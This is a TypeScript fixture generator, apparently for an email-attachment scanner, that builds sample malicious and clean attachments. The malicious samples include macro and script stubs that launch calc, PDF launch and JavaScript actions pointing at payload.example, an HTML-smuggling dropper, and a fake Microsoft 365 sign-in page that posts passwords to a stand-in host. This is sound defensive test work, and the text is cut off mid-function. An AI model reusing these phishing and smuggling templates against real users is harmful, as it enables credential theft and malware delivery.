// Builds the attachment fixtures: real file structures (PE, ELF, zip via yazl, a ZipCrypto-encrypted zip, OLE via
// cfb, OOXML packages, ISO 9660, LNK, PDF, HTML) wrapped into MIME messages with nodemailer's MailComposer.
// Run: node --import tsx src/analysis/checks/attachments/make-cases.ts
import { execFileSync } from 'node:child_process';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import zlib from 'node:zlib';
import { createRequire } from 'node:module';
import { fileURLToPath } from 'node:url';
import CFB from 'cfb';
import MailComposer from 'nodemailer/lib/mail-composer';
import { EICAR } from './text.ts';

const DIR = path.join(path.dirname(fileURLToPath(import.meta.url)), 'cases');

interface YazlZip {
  addBuffer(b: Buffer, name: string, o?: { compress?: boolean; mtime?: Date }): void;
  end(): void;
  outputStream: NodeJS.ReadableStream;
}
const yazl = createRequire(import.meta.url)('yazl') as { ZipFile: new () => YazlZip };
const MTIME = new Date('2025-03-10T09:00:00Z');

function zip(entries: [string, Buffer][], compress = true): Promise<Buffer> {
  const z = new yazl.ZipFile();
  for (const [name, data] of entries) z.addBuffer(data, name, { compress, mtime: MTIME });
  z.end();
  return new Promise((resolve, reject) => {
    const chunks: Buffer[] = [];
    z.outputStream.on('data', (c: Buffer) => chunks.push(c));
    z.outputStream.on('end', () => resolve(Buffer.concat(chunks)));
    z.outputStream.on('error', reject);
  });
}

/** A minimal Windows PE image: DOS header pointing at "PE\0\0", a COFF header and an empty optional header. */
function pe(): Buffer {
  const b = Buffer.alloc(512);
  b.write('MZ', 0, 'latin1');
  b.writeUInt32LE(0x80, 0x3c);
  b.write('This program cannot be run in DOS mode.', 0x4e, 'latin1');
  b.write('PE\0\0', 0x80, 'latin1');
  b.writeUInt16LE(0x14c, 0x84); // i386
  b.writeUInt16LE(0, 0x86); // no sections
  b.writeUInt16LE(0xe0, 0x94); // size of optional header
  b.writeUInt16LE(0x0102, 0x96); // executable, 32-bit
  b.writeUInt16LE(0x10b, 0x98); // PE32 magic
  return b;
}

/** A minimal ELF64 header for x86-64. */
function elf(): Buffer {
  const b = Buffer.alloc(64);
  Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]).copy(b, 0);
  b.writeUInt16LE(2, 16); // ET_EXEC
  b.writeUInt16LE(0x3e, 18); // x86-64
  b.writeUInt32LE(1, 20);
  b.writeUInt16LE(64, 52);
  return b;
}

// ---- ZipCrypto (traditional PKWARE encryption), so the encrypted archive is one unzip -P really opens. ----
const CRC_TABLE = Array.from({ length: 256 }, (_, n) => {
  let c = n;
  for (let k = 0; k < 8; k++) c = c & 1 ? 0xedb88320 ^ (c >>> 1) : c >>> 1;
  return c >>> 0;
});
const crcByte = (crc: number, b: number) => (CRC_TABLE[(crc ^ b) & 0xff] ^ (crc >>> 8)) >>> 0;
const crc32 = (d: Buffer) => (d.reduce((c, b) => crcByte(c, b), 0xffffffff) ^ 0xffffffff) >>> 0;

function zipCrypto(data: Buffer, password: string, check: number): Buffer {
  const k = [0x12345678, 0x23456789, 0x34567890];
  const update = (c: number) => {
    k[0] = crcByte(k[0], c);
    k[1] = (Math.imul(k[1] + (k[0] & 0xff), 134775813) + 1) >>> 0;
    k[2] = crcByte(k[2], k[1] >>> 24);
  };
  for (const c of Buffer.from(password, 'latin1')) update(c);
  const header = Buffer.from([0x3a, 0x91, 0x0c, 0x77, 0x5e, 0x21, 0xd4, 0x08, 0x6b, 0x13, 0xa2, check]);
  const plain = Buffer.concat([header, data]);
  const out = Buffer.alloc(plain.length);
  for (let i = 0; i < plain.length; i++) {
    const t = (k[2] | 2) & 0xffff;
    out[i] = plain[i] ^ ((Math.imul(t, t ^ 1) >>> 8) & 0xff);
    update(plain[i]);
  }
  return out;
}

/** A zip of stored members encrypted with ZipCrypto (general purpose bit 0). */
function encryptedZip(entries: [string, Buffer][], password: string): Buffer {
  const locals: Buffer[] = [];
  const centrals: Buffer[] = [];
  let offset = 0;
  for (const [name, data] of entries) {
    const crc = crc32(data);
    const enc = zipCrypto(data, password, crc >>> 24);
    const n = Buffer.from(name, 'latin1');
    const lh = Buffer.alloc(30);
    lh.writeUInt32LE(0x04034b50, 0);
    lh.writeUInt16LE(20, 4);
    lh.writeUInt16LE(1, 6);
    lh.writeUInt16LE(0, 8);
    lh.writeUInt16LE(0x4800, 10);
    lh.writeUInt16LE(0x5a6a, 12);
    lh.writeUInt32LE(crc, 14);
    lh.writeUInt32LE(enc.length, 18);
    lh.writeUInt32LE(data.length, 22);
    lh.writeUInt16LE(n.length, 26);
    const ch = Buffer.alloc(46);
    ch.writeUInt32LE(0x02014b50, 0);
    ch.writeUInt16LE(20, 4);
    ch.writeUInt16LE(20, 6);
    lh.copy(ch, 8, 6, 28); // flags … name length
    ch.writeUInt32LE(offset, 42);
    locals.push(lh, n, enc);
    centrals.push(ch, n);
    offset += 30 + n.length + enc.length;
  }
  const cd = Buffer.concat(centrals);
  const eocd = Buffer.alloc(22);
  eocd.writeUInt32LE(0x06054b50, 0);
  eocd.writeUInt16LE(entries.length, 8);
  eocd.writeUInt16LE(entries.length, 10);
  eocd.writeUInt32LE(cd.length, 12);
  eocd.writeUInt32LE(offset, 16);
  return Buffer.concat([...locals, cd, eocd]);
}

// ---- gzip and tar, made by the real tools ----
/** Runs GNU tar and gzip in a scratch folder on the given files (fixed times and owners, so the output is stable). */
function tarGz(files: [string, Buffer][], gzipOnly = false): Buffer {
  const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'att-'));
  try {
    for (const [name, data] of files) {
      fs.mkdirSync(path.dirname(path.join(dir, name)), { recursive: true });
      fs.writeFileSync(path.join(dir, name), data);
      fs.utimesSync(path.join(dir, name), MTIME, MTIME);
    }
    if (gzipOnly) {
      execFileSync('gzip', ['-9', files[0][0]], { cwd: dir });
      return fs.readFileSync(path.join(dir, `${files[0][0]}.gz`));
    }
    const args = ['--format=ustar', '--owner=0', '--group=0', '--numeric-owner', '--mtime=2025-03-10 09:00Z', '--sort=name', '--use-compress-program=gzip -n', '-cf', 'out.tgz'];
    execFileSync('tar', [...args, ...files.map(([n]) => n)], { cwd: dir });
    return fs.readFileSync(path.join(dir, 'out.tgz'));
  } finally {
    fs.rmSync(dir, { recursive: true, force: true });
  }
}

// ---- Office ----
function ole(streams: [string, Buffer][]): Buffer {
  const c = CFB.utils.cfb_new();
  for (const [p, d] of streams) CFB.utils.cfb_add(c, p, d);
  CFB.utils.cfb_del(c, '/\u0001Sh33tJ5');
  return Buffer.from(CFB.write(c, { type: 'buffer' }) as Uint8Array);
}

const VBA_DIR = Buffer.from('\x01\x2a\xb0\x00Attribute VB_Name = "ThisDocument"\r\nSub AutoOpen()\r\n Shell "cmd /c calc"\r\nEnd Sub\r\n', 'latin1');
const vbaProjectBin = () => ole([['/VBA/dir', VBA_DIR], ['/VBA/ThisDocument', VBA_DIR], ['/PROJECT', Buffer.from('ID="{00000000-0000-0000-0000-000000000000}"\r\n')]]);

function docx(withMacros: boolean, templateTarget?: string): Promise<Buffer> {
  const main = withMacros ? 'application/vnd.ms-word.document.macroEnabled.main+xml' : 'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml';
  const types =
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">' +
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>' +
    (withMacros ? '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>' : '') +
    `<Override PartName="/word/document.xml" ContentType="${main}"/></Types>`;
  const rels =
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">' +
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>';
  const doc =
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">' +
    '<w:body><w:p><w:r><w:t>Quarterly report: revenue up 4 % on the previous quarter.</w:t></w:r></w:p></w:body></w:document>';
  const entries: [string, Buffer][] = [
    ['[Content_Types].xml', Buffer.from(types)],
    ['_rels/.rels', Buffer.from(rels)],
    ['word/document.xml', Buffer.from(doc)],
  ];
  if (templateTarget) {
    // The settings part names the template; Word fetches it when the document opens.
    entries.push(['word/settings.xml', Buffer.from('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<w:settings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><w:attachedTemplate r:id="rId1"/></w:settings>')]);
    entries.push(['word/_rels/settings.xml.rels', Buffer.from(`<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="${templateTarget}" TargetMode="External"/></Relationships>`)]);
  }
  if (withMacros) {
    entries.push(['word/_rels/document.xml.rels', Buffer.from('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId9" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="vbaProject.bin"/></Relationships>')]);
    entries.push(['word/vbaProject.bin', vbaProjectBin()]);
  }
  return zip(entries);
}

/** An OLE Packager object (\x01Ole10Native) holding one file, as Word embeds a file dragged into a document. */
function ole10Native(fileName: string, data: Buffer): Buffer {
  const label = Buffer.from(`${fileName}\0`, 'latin1');
  const source = Buffer.from(`C:\\Users\\clerk\\Desktop\\${fileName}\0`, 'latin1');
  const temp = Buffer.from(`C:\\Users\\clerk\\AppData\\Local\\Temp\\${fileName}\0`, 'latin1');
  const u16 = (n: number) => Buffer.from([n & 0xff, n >> 8]);
  const u32 = (n: number) => {
    const b = Buffer.alloc(4);
    b.writeUInt32LE(n);
    return b;
  };
  const body = Buffer.concat([u16(2), label, source, u16(0), u16(3), u32(temp.length), temp, u32(data.length), data]);
  return Buffer.concat([u32(body.length), body]);
}

/**
 * A password-protected OOXML workbook as Office writes it: an OLE file with an agile EncryptionInfo (MS-OFFCRYPTO
 * 2.3.4.10) and the EncryptedPackage stream (8-byte plain size, then ciphertext).
 */
function encryptedXlsx(): Buffer {
  const xml =
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\r\n<encryption xmlns="http://schemas.microsoft.com/office/2006/encryption" ' +
    'xmlns:p="http://schemas.microsoft.com/office/2006/keyEncryptor/password"><keyData saltSize="16" blockSize="16" keyBits="256" ' +
    'hashSize="64" cipherAlgorithm="AES" cipherChaining="ChainingModeCBC" hashAlgorithm="SHA512" saltValue="c2FsdHNhbHRzYWx0c2FsdA=="/>' +
    '<keyEncryptors><keyEncryptor uri="http://schemas.microsoft.com/office/2006/keyEncryptor/password"><p:encryptedKey spinCount="100000" ' +
    'saltSize="16" blockSize="16" keyBits="256" hashSize="64" cipherAlgorithm="AES" cipherChaining="ChainingModeCBC" hashAlgorithm="SHA512" ' +
    'saltValue="c2FsdHNhbHRzYWx0c2FsdA=="/></keyEncryptor></keyEncryptors></encryption>';
  const info = Buffer.concat([Buffer.from([4, 0, 4, 0, 0x40, 0, 0, 0]), Buffer.from(xml)]);
  const size = Buffer.alloc(8);
  size.writeUInt32LE(9000, 0);
  const cipher = Buffer.alloc(9008);
  for (let i = 0; i < cipher.length; i++) cipher[i] = (i * 193 + 71) & 0xff;
  return ole([['/EncryptionInfo', info], ['/EncryptedPackage', Buffer.concat([size, cipher])]]);
}

/** BIFF8 workbook globals: BOF, a visible worksheet, a very hidden Excel 4.0 macro sheet, EOF. */
function biffWorkbook(): Buffer {
  const rec = (type: number, data: Buffer) => {
    const h = Buffer.alloc(4);
    h.writeUInt16LE(type, 0);
    h.writeUInt16LE(data.length, 2);
    return Buffer.concat([h, data]);
  };
  const bof = Buffer.alloc(16);
  bof.writeUInt16LE(0x0600, 0); // BIFF8
  bof.writeUInt16LE(0x0005, 2); // workbook globals
  const sheet = (name: string, hidden: number, type: number) => {
    const d = Buffer.alloc(8 + name.length);
    d.writeUInt32LE(0, 0);
    d[4] = hidden;
    d[5] = type;
    d[6] = name.length;
    d[7] = 0; // compressed (8-bit) characters
    d.write(name, 8, 'latin1');
    return rec(0x0085, d);
  };
  return Buffer.concat([rec(0x0809, bof), sheet('Sheet1', 0, 0), sheet('Macro1', 2, 1), rec(0x000a, Buffer.alloc(0))]);
}

// ---- RTF ----
/** An OLE1 object (MS-OLEDS 2.2.4): version, embedded format, class, empty topic and item, native data. */
function ole1Object(className: string, native: Buffer): Buffer {
  const str = (t: string) => {
    const b = Buffer.from(`${t}\0`, 'latin1');
    const n = Buffer.alloc(4);
    n.writeUInt32LE(b.length);
    return Buffer.concat([n, b]);
  };
  const head = Buffer.alloc(8);
  head.writeUInt32LE(0x00000501, 0);
  head.writeUInt32LE(2, 4);
  const size = Buffer.alloc(4);
  size.writeUInt32LE(native.length);
  const none = Buffer.alloc(4);
  return Buffer.concat([head, str(className), none, none, size, native]);
}

/** An RTF letter, with an embedded object whose hex is cut into lines as Word writes it. */
function rtf(object?: { className: string; data: Buffer }): Buffer {
  const hex = object ? object.data.toString('hex').replace(/.{128}/g, '$&\r\n') : '';
  const obj = object
    ? `{\\object\\objemb\\objw2000\\objh400{\\*\\objclass ${object.className}}{\\*\\objdata\r\n${hex}\r\n}{\\result {\\pict\\wmetafile8\\picw2000\\pich400 0100}}}`
    : '';
  return Buffer.from(
    `{\\rtf1\\ansi\\ansicpg1252\\deff0{\\fonttbl{\\f0 Calibri;}}\r\n\\f0\\fs22 Dear Alice,\\par Please find the remittance details below.\\par ${obj}\\par Regards\\par}\r\n`,
    'latin1',
  );
}

// ---- Disk image and shortcut ----
/** An ISO 9660 volume: 16 empty system sectors, a primary volume descriptor ("CD001") and the set terminator. */
function iso(): Buffer {
  const b = Buffer.alloc(0x8800 + 2048);
  b[0x8000] = 1;
  b.write('CD001', 0x8001, 'latin1');
  b[0x8006] = 1;
  b.write('INVOICE_2025'.padEnd(32, ' '), 0x8028, 'latin1');
  b.writeUInt32LE(19, 0x8050);
  b.writeUInt32BE(19, 0x8054);
  b.writeUInt16LE(2048, 0x8080);
  b.writeUInt16BE(2048, 0x8082);
  b[0x8800] = 0xff;
  b.write('CD001', 0x8801, 'latin1');
  b[0x8806] = 1;
  return b;
}

/** A Shell Link header (MS-SHLLINK 2.1) with its CLSID, pointing at nothing in particular. */
function lnk(): Buffer {
  const b = Buffer.alloc(76 + 2);
  b.writeUInt32LE(0x4c, 0);
  Buffer.from([0x01, 0x14, 0x02, 0x00, 0x00, 0x00, 0x00, 0x00, 0xc0, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x46]).copy(b, 4);
  b.writeUInt32LE(0x00000080, 20); // IsUnicode
  b.writeUInt32LE(0x20, 24); // FILE_ATTRIBUTE_ARCHIVE
  b.writeUInt32LE(7, 60); // SW_SHOWMINNOACTIVE
  return b;
}

// ---- PDF ----
/** A PDF with a correct cross-reference table built from its objects. */
function pdf(objects: string[]): Buffer {
  let out = '%PDF-1.7\n%\xe2\xe3\xcf\xd3\n';
  const offsets: number[] = [];
  objects.forEach((o, i) => {
    offsets.push(Buffer.byteLength(out, 'latin1'));
    out += `${i + 1} 0 obj\n${o}\nendobj\n`;
  });
  const xref = Buffer.byteLength(out, 'latin1');
  out += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n`;
  for (const off of offsets) out += `${String(off).padStart(10, '0')} 00000 n \n`;
  out += `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${xref}\n%%EOF\n`;
  return Buffer.from(out, 'latin1');
}
const stream = (s: string) => `<< /Length ${s.length} >>\nstream\n${s}\nendstream`;
const PAGE = ['<< /Type /Pages /Kids [3 0 R] /Count 1 >>', '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>', stream('BT /F1 12 Tf 72 770 Td (Invoice 2025-0314: EUR 1,240.00) Tj ET')];
const cleanPdf = () => pdf(['<< /Type /Catalog /Pages 2 0 R >>', ...PAGE]);
const jsPdf = () => pdf(['<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R >>', ...PAGE, '<< /Type /Action /S /JavaScript /JS (app.alert\\("Please enable content"\\); this.exportDataObject\\({cName: "a", nLaunch: 2}\\);) >>']);
// The name written with #xx escapes, as droppers do to get past naive scanners.
const launchPdf = () => pdf(['<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R >>', ...PAGE, '<< /Type /Action /S /L#61unch /Win << /F (cmd.exe) /P (/c start calc) >> >>']);
/**
 * PDF 1.5 with the JavaScript action compressed inside an object stream, found through a cross-reference stream:
 * the /JS and /JavaScript names appear nowhere in the clear.
 */
function objStmPdf(): Buffer {
  const action = '<< /Type /Action /S /JavaScript /JS (app.launchURL\\("https://payload.example/x", true\\);) >>';
  const header = '6 0 ';
  const packed = zlib.deflateSync(Buffer.from(header + action, 'latin1'));
  const parts: Buffer[] = [Buffer.from('%PDF-1.5\n%\xe2\xe3\xcf\xd3\n', 'latin1')];
  const offsets: number[] = [];
  let len = parts[0].length;
  const add = (b: Buffer) => {
    parts.push(b);
    len += b.length;
  };
  const obj = (n: number, head: string, body?: Buffer) => {
    offsets[n] = len;
    add(Buffer.from(`${n} 0 obj\n${head}`, 'latin1'));
    if (body) add(Buffer.concat([Buffer.from('\nstream\n'), body, Buffer.from('\nendstream')]));
    add(Buffer.from('\nendobj\n'));
  };
  obj(1, '<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R >>');
  obj(2, PAGE[0]);
  obj(3, PAGE[1]);
  obj(4, PAGE[2]);
  obj(5, `<< /Type /ObjStm /N 1 /First ${header.length} /Filter /FlateDecode /Length ${packed.length} >>`, packed);
  offsets[7] = len;
  const rows = Buffer.alloc(8 * 7);
  const row = (i: number, type: number, a: number, b: number) => {
    rows[i * 7] = type;
    rows.writeUInt32BE(a, i * 7 + 1);
    rows.writeUInt16BE(b, i * 7 + 5);
  };
  row(0, 0, 0, 65535);
  for (let n = 1; n <= 5; n++) row(n, 1, offsets[n], 0);
  row(6, 2, 5, 0);
  row(7, 1, offsets[7], 0);
  obj(7, `<< /Type /XRef /Size 8 /W [1 4 2] /Root 1 0 R /Length ${rows.length} >>`, rows);
  add(Buffer.from(`startxref\n${offsets[7]}\n%%EOF\n`));
  return Buffer.concat(parts);
}

const facturX = () =>
  pdf([
    '<< /Type /Catalog /Pages 2 0 R /Names << /EmbeddedFiles << /Names [(factur-x.xml) 5 0 R] >> >> >>',
    ...PAGE,
    '<< /Type /Filespec /F (factur-x.xml) /UF (factur-x.xml) /EF << /F 6 0 R >> /AFRelationship /Data >>',
    `<< /Type /EmbeddedFile /Subtype /text#2Fxml /Length 96 >>\nstream\n${'<rsm:CrossIndustryInvoice xmlns:rsm="urn:un:unece:uncefact:data:standard:CrossIndustryInvoice:100"/>'.padEnd(96)}\nendstream`,
  ]);

// ---- HTML ----
const payload = Buffer.concat([pe(), Buffer.alloc(4096, 0x90)]).toString('base64');
const smugglingHtml = `<!DOCTYPE html>
<html><head><meta charset="utf-8"><title>Document Viewer</title></head>
<body><p>Your document is downloading...</p>
<script>
var b64 = "${payload}";
var bin = atob(b64); var bytes = new Uint8Array(bin.length);
for (var i = 0; i < bin.length; i++) { bytes[i] = bin.charCodeAt(i); }
var blob = new Blob([bytes], {type: "application/octet-stream"});
if (window.navigator.msSaveOrOpenBlob) { window.navigator.msSaveOrOpenBlob(blob, "Invoice_0314.iso"); }
else { var a = document.createElement("a"); a.href = URL.createObjectURL(blob); a.download = "Invoice_0314.iso"; document.body.appendChild(a); a.click(); }
</script></body></html>
`;
const credentialHtml = `<!DOCTYPE html>
<html><head><meta charset="utf-8"><title>Microsoft 365 - Sign in</title></head>
<body style="font-family:Segoe UI">
<h2>Your session has expired</h2><p>Sign in to view the shared document.</p>
<form method="POST" action="https://login-office365.secure-docs.example.net/owa/auth.php">
<input type="email" name="login" value="alice@example.com">
<input type="password" name="passwd" placeholder="Password">
<button type="submit">Sign in</button>
</form></body></html>
`;
const hidden = encodeURIComponent(credentialHtml).replace(/'/g, '%27');
const obfuscatedHtml = `<html><head><meta charset="utf-8"></head><body>
<script language="javascript">document.write(unescape('${hidden}'));</script>
</body></html>
`;
const newsletterHtml = `<!DOCTYPE html><html><head><title>Spring menu</title></head><body>
<h1>Canteen menu, week 11</h1><ul><li>Monday: lentil soup</li><li>Tuesday: risotto</li></ul>
<form action="https://intranet.example.com/feedback" method="post"><input name="comment"><button>Send</button></form>
</body></html>
`;

// ---- Messages ----
interface Att {
  filename?: string;
  content: Buffer | string;
  contentType?: string;
}
async function eml(file: string, subject: string, text: string, attachments: Att[], extra: Record<string, unknown> = {}): Promise<void> {
  const mail = new MailComposer({
    from: '"Accounts Payable" <billing@supplier.example>',
    to: 'alice@example.com',
    subject,
    text,
    date: new Date('2025-03-14T08:15:00Z'),
    messageId: `<${file.replace('.eml', '')}@supplier.example>`,
    attachments: attachments.map((a) => ({ ...a, contentDisposition: 'attachment' as const })),
    baseBoundary: file.replace(/[^a-z0-9]/g, ''),
    ...extra,
  } as ConstructorParameters<typeof MailComposer>[0]);
  const raw = await mail.compile().build();
  fs.writeFileSync(path.join(DIR, file), raw);
}

const csv = (rows: number) =>
  Buffer.from(['date,account,amount', ...Array.from({ length: rows }, (_, i) => `2025-03-${String((i % 28) + 1).padStart(2, '0')},4400-${i % 17},${(i * 37.5).toFixed(2)}`)].join('\n'));
const ICS = [
  'BEGIN:VCALENDAR', 'VERSION:2.0', 'PRODID:-//Example Corp//Calendar//EN', 'METHOD:REQUEST', 'BEGIN:VEVENT',
  'UID:20250314T0900-budget@supplier.example', 'DTSTAMP:20250310T090000Z', 'DTSTART:20250318T090000Z', 'DTEND:20250318T100000Z',
  'SUMMARY:Budget review', 'ORGANIZER:mailto:billing@supplier.example', 'ATTENDEE;RSVP=TRUE:mailto:alice@example.com', 'END:VEVENT', 'END:VCALENDAR', '',
].join('\r\n');

async function main(): Promise<void> {
  const text = 'Hello Alice,\n\nplease find the document attached.\n\nKind regards,\nAccounts Payable\n';
  // Clean business mail.
  await eml('clean-invoice-pdf.eml', 'Invoice 2025-0314', text, [{ filename: 'Invoice-2025-0314.pdf', content: cleanPdf(), contentType: 'application/pdf' }]);
  await eml('clean-docx.eml', 'Quarterly report', text, [{ filename: 'Q1-report.docx', content: await docx(false), contentType: 'application/vnd.openxmlformats-officedocument.wordprocessingml.document' }]);
  await eml('clean-csv-zip.eml', 'March ledger export', text, [{ filename: 'ledger-2025-03.zip', content: await zip([['ledger/accounts.csv', csv(400)], ['ledger/journal.csv', csv(900)], ['ledger/README.txt', Buffer.from('Exported from the ledger on 2025-03-14.\n')]]), contentType: 'application/zip' }]);
  await eml('clean-ics-invite.eml', 'Invitation: Budget review', 'You are invited to the budget review on Tuesday.\n', [], {
    icalEvent: { method: 'REQUEST', filename: 'invite.ics', content: ICS },
  });
  await eml('clean-html-newsletter.eml', 'Canteen menu', text, [{ filename: 'menu.html', content: newsletterHtml, contentType: 'text/html' }]);
  await eml('factur-x-invoice.eml', 'Invoice 2025-0315 (Factur-X)', text, [{ filename: 'Invoice-2025-0315.pdf', content: facturX(), contentType: 'application/pdf' }]);

  // Programs, scripts and disguises.
  await eml('exe-declared-pdf.eml', 'Invoice overdue', text, [{ filename: 'Invoice_0314.pdf', content: pe(), contentType: 'application/pdf' }]);
  await eml('double-extension.eml', 'Payment advice', text, [
    { filename: 'Payment_advice.pdf.exe', content: pe(), contentType: 'application/octet-stream' },
    { filename: 'scan_0314.doc               .scr', content: pe(), contentType: 'application/octet-stream' },
  ]);
  await eml('rtlo-name.eml', 'Photos', text, [{ filename: 'holiday\u202Egpj.exe', content: pe(), contentType: 'application/octet-stream' }]);
  await eml('lnk-shortcut.eml', 'Shared document', text, [{ filename: 'Document_0314.pdf.lnk', content: lnk(), contentType: 'application/octet-stream' }]);
  await eml('iso-image.eml', 'Delivery note', text, [{ filename: 'Delivery_note.iso', content: iso(), contentType: 'application/octet-stream' }]);
  await eml('iso-named-pdf.eml', 'Delivery note', text, [{ filename: 'Delivery_note.pdf', content: iso(), contentType: 'application/pdf' }]);

  // Archives.
  await eml('exe-in-zip.eml', 'Order confirmation', text, [{ filename: 'Order.zip', content: await zip([['Order_4471.pdf.exe', pe()]]), contentType: 'application/zip' }]);
  await eml('elf-in-zip.eml', 'Firmware', text, [{ filename: 'firmware.zip', content: await zip([['bin/update', elf()], ['notes.txt', Buffer.from('Install with ./update\n')]]), contentType: 'application/zip' }]);
  const inner = await zip([['invoice.js', Buffer.from('var s=new ActiveXObject("WScript.Shell");s.Run("calc");\n')]]);
  await eml('nested-zip.eml', 'Documents', text, [{ filename: 'documents.zip', content: await zip([['documents/inner.zip', inner]]), contentType: 'application/zip' }]);
  const deep = await zip([['level2.zip', await zip([['level3.zip', await zip([['readme.txt', Buffer.from('deep\n')]])]])]]);
  await eml('zip-nested-too-deep.eml', 'Archive', text, [{ filename: 'level1.zip', content: deep, contentType: 'application/zip' }]);
  await eml('encrypted-zip-password.eml', 'Invoice', 'Hello,\n\nthe invoice is attached.\nPassword: 7741\n\nRegards\n', [
    { filename: 'Invoice_7741.zip', content: encryptedZip([['Invoice_7741.js', Buffer.from('WScript.CreateObject("WScript.Shell").Run("calc");\n')]], '7741'), contentType: 'application/zip' },
  ]);
  await eml('encrypted-zip-german.eml', 'Rechnung', 'Guten Tag,\n\nanbei die Rechnung. Das Kennwort lautet: Rg2025\n\nMit freundlichen Grüßen\n', [
    { filename: 'Rechnung.zip', content: encryptedZip([['Rechnung.pdf', cleanPdf()]], 'Rg2025'), contentType: 'application/zip' },
  ]);
  await eml('encrypted-zip-no-password.eml', 'Salary review', 'Hi Alice,\n\nthe salary review is attached; you know the code.\n', [
    { filename: 'salaries.zip', content: encryptedZip([['salaries.pdf', cleanPdf()]], 'hr-2025'), contentType: 'application/zip' },
  ]);
  const zeros = Buffer.alloc(24 * 1024 * 1024);
  await eml('zip-bomb.eml', 'Backup', text, [{ filename: 'backup.zip', content: await zip([['backup.dat', zeros]]), contentType: 'application/zip' }]);
  const good = await zip([['report.csv', csv(200)]]);
  await eml('corrupt-zip.eml', 'Report', text, [{ filename: 'report.zip', content: good.subarray(0, good.length - 40), contentType: 'application/zip' }]);
  await eml('exe-in-tgz.eml', 'Shipping documents', text, [{ filename: 'shipping-docs.tgz', content: tarGz([['docs/packing-list.txt', Buffer.from('12 boxes\n')], ['docs/Shipping_Invoice.pdf.exe', pe()]]), contentType: 'application/gzip' }]);
  await eml('clean-logs-tgz.eml', 'Server logs', text, [{ filename: 'logs.tar.gz', content: tarGz([['logs/access.log', csv(300)], ['logs/error.log', Buffer.from('[warn] disk 81% full\n')]]), contentType: 'application/gzip' }]);
  // gzip keeps the original name in its header; the attachment name says nothing about the content.
  await eml('script-in-gz.eml', 'Statement', text, [{ filename: 'statement.gz', content: tarGz([['Statement_March.vbs', Buffer.from('CreateObject("WScript.Shell").Run "calc"\r\n')]], true), contentType: 'application/gzip' }]);
  const rar = Buffer.concat([Buffer.from('Rar!\x1a\x07\x01\x00', 'latin1'), Buffer.from([0x33, 0x92, 0xb5, 0xe5, 0x0a, 0x01, 0x05, 0x06, 0x00, 0x05, 0x01, 0x01, 0x80, 0x80, 0x00])]);
  await eml('rar-archive.eml', 'Scans', text, [{ filename: 'scans.rar', content: rar, contentType: 'application/x-rar-compressed' }]);

  // Office macros.
  const wordDoc = Buffer.alloc(4096, 0);
  wordDoc.writeUInt16LE(0xa5ec, 0);
  await eml('ole-macro-doc.eml', 'Remittance', text, [{ filename: 'Remittance.doc', content: ole([['/WordDocument', wordDoc], ['/Macros/VBA/dir', VBA_DIR], ['/Macros/VBA/ThisDocument', VBA_DIR], ['/Macros/PROJECT', Buffer.from('ID="{1}"\r\n')]]), contentType: 'application/msword' }]);
  await eml('doc-embedded-script.eml', 'Order', text, [
    {
      filename: 'Order_0314.doc',
      content: ole([['/WordDocument', wordDoc], ['/ObjectPool/_1741600000/\u0001Ole10Native', ole10Native('Order_details.js', Buffer.from('var s=WScript.CreateObject("WScript.Shell");s.Run("calc");\r\n'))]]),
      contentType: 'application/msword',
    },
  ]);
  await eml('xlsx-encrypted-password.eml', 'Overdue payment', 'Dear customer,\n\nthe overdue statement is attached, protected for your privacy.\nPassword: 2025\n', [
    { filename: 'Statement.xlsx', content: encryptedXlsx(), contentType: 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet' },
  ]);
  await eml('clean-rtf-letter.eml', 'Remittance', text, [{ filename: 'Remittance.rtf', content: rtf(), contentType: 'application/rtf' }]);
  // Equation Editor object (CVE-2017-11882 droppers): the class is what gives it away.
  await eml('rtf-equation-object.eml', 'Purchase order', text, [
    { filename: 'PO_0314.doc', content: rtf({ className: 'Equation.3', data: ole1Object('Equation.3', Buffer.concat([Buffer.from([0x1c, 0, 0, 0, 2, 0, 0x9e, 0xc4, 0xa9, 0]), Buffer.alloc(64, 0x41)])) }), contentType: 'application/msword' },
  ]);
  const pkg = ole10Native('Remittance.pdf.vbs', Buffer.from('CreateObject("WScript.Shell").Run "calc"\r\n'));
  await eml('rtf-package-object.eml', 'Remittance', text, [
    { filename: 'Remittance.rtf', content: rtf({ className: 'Package', data: ole1Object('Package', pkg.subarray(4)) }), contentType: 'application/rtf' },
  ]);
